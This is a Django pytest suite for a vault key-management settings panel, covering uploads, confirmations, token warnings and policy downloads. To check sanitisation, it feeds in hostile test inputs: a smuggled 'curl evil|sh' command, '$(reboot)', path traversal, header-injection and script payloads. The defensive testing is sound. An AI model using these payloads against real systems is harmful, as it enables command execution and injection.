"""The Key Management Service panel over HTTP: the form with and without script, the check before Save, what everybody sees."""

from __future__ import annotations

import re
import time
from datetime import timedelta
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.urls import reverse
from django.utils import timezone

from atoms import actions as atoms
from atoms.models import Atom, Node
from extensions.actions import save_extensions
from extensions.plan import FieldChange
from operations.actions import sweep
from tests.conftest import Stage
from vaults.actions import file_of, settings_of, with_settings
from vaults.models import ContainerReport, KmsSettings, PropertiesFile

pytestmark = pytest.mark.django_db(transaction=True)
TOKEN = "hvs.CAESIcanary-of-the-panel-0123456789"
SAMPLE = f"""spring:
  cloud:
    vault:
      uri: https://vault.example.com:8200
      namespace: /admin
      authentication: token
      token: {TOKEN}
      session:
        lifecycle:
          enabled: true
          expiry-threshold: 20s
          refresh-before-expiry: 10s
"""
HTMX = {"hx-request": "true"}


class Panel:
    """The panel as one member uses it."""

    def __init__(self, stage: Stage, name: str = "alice", atom: Atom | None = None) -> None:
        self.stage, self.atom, self.client = stage, atom or stage.atom, stage.cast.client(name)

    def url(self, name: str = "kms_panel") -> str:
        return reverse(f"vaults:{name}", args=[self.stage.account.code, self.atom.pk])

    def get(self, name: str = "kms_panel", **headers: str) -> Any:
        return self.client.get(self.url(name), headers=headers)

    def save(self, text: str | None = None, *, htmx: bool = True, name: str = "application.yaml", **data: Any) -> Any:
        """Post the form as it stands; data overrides (None leaves a field out)."""
        current = settings_of(with_settings(self.atom))
        asked: dict[str, Any] = {"expected_revision": current.revision, "byov": "on"} | data
        if text is not None:
            asked["file"] = SimpleUploadedFile(name, text.encode())
        body = {key: value for key, value in asked.items() if value is not None}
        return self.client.post(self.url("kms_settings"), body, headers=HTMX if htmx else {})

    def confirm(self, text: str | None = None, **data: Any) -> Any:
        """Post the form, read what is asked, and post it again with the button that was shown."""
        asked = text_of(self.save(text, **data))
        found = re.search(r'name="confirmed" value="([^"]+)"', asked)
        assert found, asked
        return self.save(text, **data, confirmed=found[1])

    def check(self, text: str, *, htmx: bool = True) -> Any:
        body = {"file": SimpleUploadedFile("application.yaml", text.encode())}
        return self.client.post(self.url("kms_check"), body, headers=HTMX if htmx else {})


@pytest.fixture
def panel(stage: Stage) -> Panel:
    return Panel(stage)


def text_of(answer: HttpResponse) -> str:
    return answer.content.decode()


def reported(atom: Atom, **report: Any) -> ContainerReport:
    now = timezone.now()
    node = Node.objects.create(atom=atom, host_name="orders-01", state="enrolled", enrolled_at=now, last_seen_at=now)
    known = {"values": 14, "environment": atom.environment, "revision": 0, "sealed_at": now, "reported_at": now}
    return ContainerReport.objects.create(node=node, **(known | report))


def save_extensions_of(stage: Stage) -> None:
    save_extensions(
        stage.production,
        [FieldChange(stage.field("host"), "plain", "db.test")],
        expected_revision=0,
        actor=stage.alice,
    )


# -- saving ------------------------------------------------------------------------------------------------------------


def test_saving_answers_with_the_form_as_it_is_stored_and_makes_the_rest_follow(panel: Panel) -> None:
    answer = panel.save(SAMPLE, wrapped="on")
    page = text_of(answer)
    assert answer.status_code == 200
    for part in ('id="kms-settings"', "Saved.", "application.yaml"):
        assert part in page
    assert "poll-now" in answer.headers["HX-Trigger-After-Settle"]
    polled = text_of(panel.get(**HTMX))
    for part in ('id="kms-state"', 'id="kms-panel"', "vault.example"):
        assert part in polled
    assert settings_of(with_settings(panel.atom)).wrapped
    assert TOKEN not in page + text_of(panel.get())


def test_without_script_the_same_form_posts_and_redirects(panel: Panel) -> None:
    answer = panel.save(SAMPLE, htmx=False)
    assert (answer.status_code, answer.headers["Location"]) == (302, panel.url())
    page = text_of(panel.get())
    assert "Saved." in page
    assert 'name="byov" checked' in page


def test_with_a_file_stored_a_new_one_is_optional(panel: Panel) -> None:
    panel.save(SAMPLE)
    assert panel.save(wrapped="on").status_code == 200
    stored = file_of(with_settings(panel.atom))
    assert stored is not None
    assert (settings_of(with_settings(panel.atom)).wrapped, stored.name) == (True, "application.yaml")
    assert "(optional: the current file stays)" in text_of(panel.get())


def test_without_a_file_nothing_is_saved_and_the_field_says_so(panel: Panel) -> None:
    answer = panel.save()
    assert (answer.status_code, answer.headers["HX-Retarget"]) == (422, "#kms-errors")
    assert 'data-error-for="kms-file"' in text_of(answer)
    assert "Choose the properties file of your vault." in text_of(answer)
    assert not KmsSettings.objects.exists()


def test_a_file_with_errors_is_not_saved(panel: Panel) -> None:
    answer = panel.save(SAMPLE.replace("uri: https://vault.example.com:8200", "uri: ftp://vault"))
    assert answer.status_code == 422
    assert "application.yaml has 1 error; see below." in text_of(answer)
    plain = panel.save(SAMPLE.replace("https:", "ftp:"), htmx=False)
    assert plain.status_code == 422
    assert "Findings" in text_of(plain)
    assert 'id="kms-file_error"' in text_of(plain)
    assert TOKEN not in text_of(answer) + text_of(plain)
    assert not KmsSettings.objects.exists()


def test_a_stale_form_gets_the_conflict_and_overwrites_nothing(panel: Panel) -> None:
    panel.save(SAMPLE)
    answer = panel.save(wrapped="on", expected_revision=1)
    assert answer.status_code == 409
    assert "alice@example.com" in text_of(answer)
    assert "Bring Your Own Vault on" in text_of(answer)
    assert panel.save(htmx=False, wrapped="on", expected_revision=1).status_code == 409
    assert not settings_of(with_settings(panel.atom)).wrapped


def test_a_double_click_saves_once(panel: Panel) -> None:
    assert panel.save(SAMPLE, expected_revision=1).status_code == 200
    assert panel.save(SAMPLE, expected_revision=1).status_code == 200
    assert settings_of(with_settings(panel.atom)).revision == 2


def test_a_cloud_shows_the_switch_disabled_and_the_server_refuses_it(stage: Stage) -> None:
    cloud = atoms.create_atom(
        stage.account, name="Cloud", type="CLOUD", environment=stage.production, actor=stage.alice
    )
    sweep()
    panel = Panel(stage, atom=cloud)
    page = text_of(panel.get())
    assert "Not available for Clouds" in page
    assert 'id="kms-save"' not in page
    answer = panel.save(SAMPLE)
    assert answer.status_code == 422
    assert "Bring Your Own Vault is not available for Clouds." in text_of(answer)


def test_wrapped_needs_bring_your_own_vault(panel: Panel) -> None:
    answer = panel.save(byov=None, wrapped="on")
    assert answer.status_code == 422
    assert "A wrapped encryption key needs Bring Your Own Vault." in text_of(answer)


def test_turning_off_a_live_one_asks_first_and_says_what_follows(panel: Panel) -> None:
    panel.save(SAMPLE)
    reported(panel.atom)
    asked = panel.save(byov=None)
    assert asked.status_code == 422
    for words in ("Turn off Bring Your Own Vault for Orders Atom?", "14 values", "1 container"):
        assert words in text_of(asked)
    assert settings_of(with_settings(panel.atom)).is_byov
    assert panel.save(byov=None, confirmed="replace-2-kept").status_code == 422
    assert panel.confirm(byov=None).status_code == 200
    assert not settings_of(with_settings(panel.atom)).is_byov


def test_replacing_the_file_and_giving_up_wrapping_ask_too(panel: Panel) -> None:
    panel.save(SAMPLE, wrapped="on")
    asked = panel.save(SAMPLE.replace("vault.example", "other.example"), wrapped="on")
    assert "Replace the properties file of Orders Atom?" in text_of(asked)
    plain = panel.save()
    assert "Keep a plaintext data key on the containers of Orders Atom?" in text_of(plain)
    assert "Choose the file again below before you confirm" in text_of(
        panel.save(SAMPLE.replace("vault.example", "other.example"), wrapped="on", htmx=False)
    )
    assert settings_of(with_settings(panel.atom)).revision == 2


OTHER = SAMPLE.replace("vault.example", "other.example")


def test_everything_that_is_given_up_is_asked_and_what_was_shown_is_what_is_confirmed(panel: Panel) -> None:
    panel.save(SAMPLE, wrapped="on")
    reported(panel.atom)
    both = text_of(panel.save(OTHER))
    for words in ("Replace the properties file", "keep the data key in a file of mode 0600", "keep a plaintext key"):
        assert words in both
    found = re.search(r'name="confirmed" value="([^"]+)"', both)
    assert found is not None
    third = SAMPLE.replace("vault.example", "third.example")
    assert panel.save(third, confirmed=found[1]).status_code == 422, "confirmed for another file"
    assert panel.save(OTHER, wrapped="on", confirmed=found[1]).status_code == 422, "confirmed for another act"
    assert panel.save(OTHER, confirmed=found[1]).status_code == 200
    assert not settings_of(with_settings(panel.atom)).wrapped


def test_a_confirmation_without_the_file_asks_for_the_file(panel: Panel) -> None:
    """Without script the file is not sent twice by itself."""
    panel.save(SAMPLE)
    found = re.search(r'name="confirmed" value="([^"]+)"', text_of(panel.save(OTHER, htmx=False)))
    assert found is not None
    answer = panel.save(htmx=False, confirmed=found[1])
    assert answer.status_code == 422
    assert "Choose the file again before you confirm" in text_of(answer)


def test_a_file_is_stored_with_bring_your_own_vault_only(panel: Panel, stage: Stage) -> None:
    assert panel.save(SAMPLE, byov=None).status_code == 200
    assert file_of(with_settings(panel.atom)) is None
    panel.save(SAMPLE)
    panel.confirm(OTHER, byov=None)
    stored = file_of(with_settings(panel.atom))
    assert stored is not None
    assert stored.facts["uri"] == "https://vault.example.com:8200", "turning off replaces nothing"
    cloud = atoms.create_atom(stage.account, name="Cloud", type="CLOUD", environment=None, actor=stage.alice)
    sweep()
    Panel(stage, atom=cloud).save(SAMPLE, byov=None)
    assert file_of(with_settings(cloud)) is None


def test_a_revision_that_no_column_holds_is_refused(panel: Panel) -> None:
    assert panel.save(SAMPLE, expected_revision=10**20).status_code == 422


def test_a_file_named_after_its_token_gets_another_name(panel: Panel) -> None:
    panel.save(SAMPLE, name=f"{TOKEN}.yaml")
    assert TOKEN not in text_of(panel.get())
    stored = file_of(with_settings(panel.atom))
    assert stored is not None
    assert stored.name == "properties.yaml"


def test_with_the_vault_down_nothing_is_saved_and_the_file_stays_chosen(panel: Panel, settings: Any) -> None:
    from vaults import hosted

    settings.VAULT_ADDR = "http://127.0.0.1:1"
    hosted.forget()
    answer = panel.save(SAMPLE)
    assert (answer.status_code, answer.headers["HX-Retarget"]) == (422, "#kms-errors")
    assert "Nothing was saved. The vault cannot be reached." in text_of(answer)
    assert panel.save(SAMPLE, htmx=False).status_code == 503


@pytest.mark.parametrize("name", ["../../x.yml", "x.yml\r\nSet-Cookie: a=b.yml", "\x1b[31m.yaml", "a" * 300 + ".yaml"])
def test_a_files_name_is_for_people_only(panel: Panel, name: str) -> None:
    panel.save(SAMPLE, name=name)
    stored = file_of(with_settings(panel.atom))
    assert stored is not None
    assert stored.name.isprintable()
    assert "/" not in stored.name
    assert len(stored.name) <= 120


def test_a_reader_sees_everything_and_changes_nothing(panel: Panel, stage: Stage) -> None:
    panel.save(SAMPLE, wrapped="on")
    bob = Panel(stage, "bob")
    page = text_of(bob.get())
    assert "application.yaml" in page
    assert 'id="kms-save"' not in page
    assert bob.save(byov=None).status_code == 403
    assert bob.check(SAMPLE).status_code == 403


# -- the check before Save ---------------------------------------------------------------------------------------------


def test_choosing_a_file_shows_findings_and_a_preview_and_stores_nothing(panel: Panel) -> None:
    answer = panel.check(SAMPLE)
    page = text_of(answer)
    assert "This file can be used" in page
    assert "uri: https://vault.example.com:8200" in page
    assert TOKEN not in page
    assert not KmsSettings.objects.exists()
    assert TOKEN not in text_of(panel.check(SAMPLE, htmx=False))


def test_a_finding_names_line_problem_and_mend(panel: Panel) -> None:
    page = text_of(panel.check(SAMPLE.replace("refresh-before-expiry", "refresh-before-expire")))
    assert "refresh-before-expiry" in page
    assert ">12<" in page.replace("\n", "")


def test_no_file_asks_for_one(panel: Panel) -> None:
    assert "Choose a file first." in text_of(panel.client.post(panel.url("kms_check"), {}))
    emptied = panel.client.post(panel.url("kms_check"), {}, headers=HTMX)
    assert (emptied.status_code, "Choose a file" in text_of(emptied)) == (200, False)


def test_a_large_upload_is_refused_and_nothing_is_kept(panel: Panel) -> None:
    page = text_of(panel.check("#" * 20_000))
    assert "16 KiB" in page
    assert "This file cannot be used yet" in page
    answer = panel.check("#" * 10_000_000)
    assert (answer.status_code, answer.headers["HX-Retarget"]) == (413, "#kms-errors")
    assert "the file is larger than 16 KiB" in text_of(answer)
    assert panel.save("#" * 10_000_000, htmx=False).status_code == 413
    assert not KmsSettings.objects.exists()


# -- what everybody sees -----------------------------------------------------------------------------------------------


def test_the_polled_fragments_are_304_until_something_changes(panel: Panel) -> None:
    for name in ("kms_panel", "kms_settings"):
        first = panel.get(name, **HTMX)
        again = panel.get(name, **HTMX, **{"if-none-match": first.headers["ETag"]})
        assert again.status_code == 304, name
    tags = {name: panel.get(name, **HTMX).headers["ETag"] for name in ("kms_panel", "kms_settings")}
    panel.save(SAMPLE)
    for name, tag in tags.items():
        assert panel.get(name, **HTMX, **{"if-none-match": tag}).status_code == 200, name


def test_a_pending_switch_says_the_step_and_what_to_do(panel: Panel) -> None:
    panel.save(SAMPLE)
    steps = [
        {"step": "dns", "state": "ok", "code": "ok", "detail": ""},
        {"step": "token", "state": "failed", "code": "token_invalid", "detail": ""},
    ]
    reported(panel.atom, verdict="switch_pending", settings_revision=1, preflight=steps, preflight_at=timezone.now())
    page = text_of(panel.get())
    assert "Switch pending:" in page
    assert "How your vault answered orders-01" in page
    tree = text_of(panel.client.get(reverse("atoms:atom_tree", args=[panel.stage.account.code])))
    assert ">Pending<" in tree


def test_a_molecule_is_switched_when_every_node_is(panel: Panel) -> None:
    panel.save(SAMPLE)
    reported(panel.atom, settings_revision=2, source="byov")
    late = reported(panel.atom, settings_revision=1)
    assert "1 of 2 nodes take the new settings at the next contact." in text_of(panel.get())
    Node.objects.filter(pk=late.node_id).update(last_seen_at=timezone.now() - timedelta(hours=1))
    assert "Start it with" in text_of(panel.get())
    ContainerReport.objects.update(settings_revision=2)
    assert "Switch pending" not in text_of(panel.get())


def test_the_tree_names_the_mode(panel: Panel) -> None:
    tree = reverse("atoms:atom_tree", args=[panel.stage.account.code])
    assert "tree-badge" not in text_of(panel.client.get(tree))
    panel.save(SAMPLE)
    reported(panel.atom, settings_revision=2, source="byov")
    assert ">BYOV<" in text_of(panel.client.get(tree))
    panel.save(wrapped="on")
    ContainerReport.objects.update(settings_revision=3)
    assert ">Failing<" in text_of(panel.client.get(tree)), "its store has a key in a file"
    ContainerReport.objects.update(wrapped=True)
    assert ">Wrapped<" in text_of(panel.client.get(tree))
    ContainerReport.objects.update(verdict="token_invalid")
    assert ">Failing<" in text_of(panel.client.get(tree))


@pytest.mark.parametrize(("days", "tone"), [(0.5, "bad"), (6, "warn"), (29, "warn"), (40, "")])
def test_the_panel_warns_before_the_token_ends(panel: Panel, days: float, tone: str) -> None:
    panel.save(SAMPLE)
    now = int(time.time())
    token = {"ends": now + int(timedelta(days=days).total_seconds()), "because": "explicit_max", "certain": True}
    token |= {"renews_every": 86390, "next_renewal": now + 100, "looked_up_at": now}
    reported(panel.atom, settings_revision=2, source="byov", token=token)
    page = text_of(panel.get())
    assert "whatever is done" in page
    assert (f'<div class="callout {tone}"' in page and "The token of your vault ends" in page) == bool(tone)


@pytest.mark.parametrize("dropped", [True, False])
def test_a_token_that_is_renewed_no_more_is_the_state_and_an_outage_is_a_warning(panel: Panel, dropped: bool) -> None:
    panel.save(SAMPLE)
    token = {"problem": "token_invalid" if dropped else "vault_timeout", "dropped": dropped}
    reported(panel.atom, settings_revision=2, source="byov", token=token)
    page = text_of(panel.get())
    assert ("takes nothing new" in page) == dropped
    assert ("could not be renewed" in page) != dropped


@pytest.mark.parametrize("number", [0, 1, 10**9, 7258118400])
def test_no_number_a_container_may_report_breaks_the_panel(panel: Panel, number: int) -> None:
    panel.save(SAMPLE)
    names = ("ttl", "period", "ends", "renews_every", "next_renewal", "looked_up_at", "renewed_at")
    reported(panel.atom, settings_revision=2, source="byov", token=dict.fromkeys(names, number) | {"because": "ttl"})
    assert panel.get().status_code == 200


def test_health_is_what_containers_report_and_not_what_the_settings_say(panel: Panel) -> None:
    save_extensions_of(panel.stage)
    panel.save(SAMPLE, wrapped="on")
    report = reported(panel.atom, settings_revision=2, revision=1, source="byov", wrapped=True)
    assert "No plaintext key is kept there" in text_of(panel.get())
    for other in ({"wrapped": False}, {"source": "hosted", "wrapped": False}):
        ContainerReport.objects.filter(pk=report.pk).update(**other)
        page = text_of(panel.get())
        assert "Mismatch" in page
        assert "No plaintext key is kept there" not in page


@pytest.mark.parametrize(
    "change",
    [
        {"facts": {"uri": "https://evil.example:8200", "confirm": "https://x:1;curl evil|sh #"}},
        {"facts": []},
        {"facts": "x"},
        {"name": "other.yaml"},
    ],
)
def test_what_was_written_past_the_portal_is_on_no_page(panel: Panel, change: dict[str, Any]) -> None:
    panel.save(SAMPLE)
    PropertiesFile.objects.update(**change)
    for name in ("kms_panel", "kms_settings", "kms_policy"):
        answer = panel.get(name)
        assert answer.status_code == 403
        assert "evil" not in text_of(answer)


def test_a_mode_written_past_the_portal_is_on_no_page(panel: Panel) -> None:
    panel.save(SAMPLE)
    KmsSettings.objects.update(wrapped=True)
    assert panel.get().status_code == 403


def test_a_report_cannot_write_on_the_page(panel: Panel) -> None:
    """Steps are codes; unknown ones get our own words."""
    panel.save(SAMPLE)
    steps = [{"step": "made_up", "state": "failed", "code": "made_up_too", "detail": "<script>alert(1)</script>"}]
    reported(panel.atom, settings_revision=1, preflight=steps, preflight_at=timezone.now(), verdict="switch_pending")
    answer = panel.get()
    assert answer.status_code == 200
    assert "<script>alert(1)" not in text_of(answer)


def test_what_the_panel_asks_of_the_database_is_constant(panel: Panel, django_assert_max_num_queries: Any) -> None:
    panel.save(SAMPLE)
    for _ in range(5):
        reported(panel.atom, settings_revision=2, source="byov")
    with django_assert_max_num_queries(20):
        panel.get("kms_panel", **HTMX)


def test_the_policy_page_is_made_for_the_atom(panel: Panel) -> None:
    panel.save(SAMPLE, wrapped="on")
    page = text_of(panel.get("kms_policy"))
    key = f"{panel.stage.account.code}_{panel.atom.pk}"
    assert f"transit/decrypt/{key}" in page
    assert 'value="admin"' in page
    plain = panel.client.get(panel.url("kms_policy") + "?shown=1&cli=bao")
    assert f"transit/decrypt/{key}" not in text_of(plain)
    assert "bao write" in text_of(plain)
    odd = panel.client.get(panel.url("kms_policy") + "?shown=1&namespace=$(reboot)")
    assert odd.status_code == 200
    assert "A namespace has letters" in text_of(odd)


@pytest.mark.parametrize("name", ["policy.hcl", "policy.json", "vault.sh", "bao.sh", "main.tf"])
def test_every_text_can_be_downloaded(panel: Panel, name: str) -> None:
    url = reverse("vaults:kms_policy_file", args=[panel.stage.account.code, panel.atom.pk, name])
    answer = panel.client.get(url)
    assert answer.status_code == 200
    assert name in answer.headers["Content-Disposition"]
    assert str(panel.atom.pk) in text_of(answer)
    assert panel.client.get(url + "x").status_code == 404
